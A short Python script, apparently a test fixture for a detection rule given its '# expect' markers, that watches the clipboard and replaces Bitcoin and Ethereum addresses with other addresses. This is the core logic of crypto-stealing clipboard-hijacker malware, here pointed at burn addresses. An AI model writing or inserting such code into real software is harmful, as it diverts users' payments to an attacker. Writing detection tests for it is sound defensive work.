import re
import time
import pyperclip
import win32clipboard

ADDRESSES = {
    "btc": ("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", "1BitcoinEaterAddressDontSendf59kuE"),
    "eth": ("^0x[a-fA-F0-9]{40}$", "0x0000000000000000000000000000000000000000"),
}


def swap():
    text = pyperclip.paste()
    for pattern, address in ADDRESSES.values():
        if re.match(pattern, text):
            pyperclip.copy(address)  # expect


while True:
    swap()
    data = win32clipboard.GetClipboardData()
    if data.startswith("0x"):
        win32clipboard.SetClipboardText("0x0000000000000000000000000000000000000001")  # expect
    time.sleep(1)
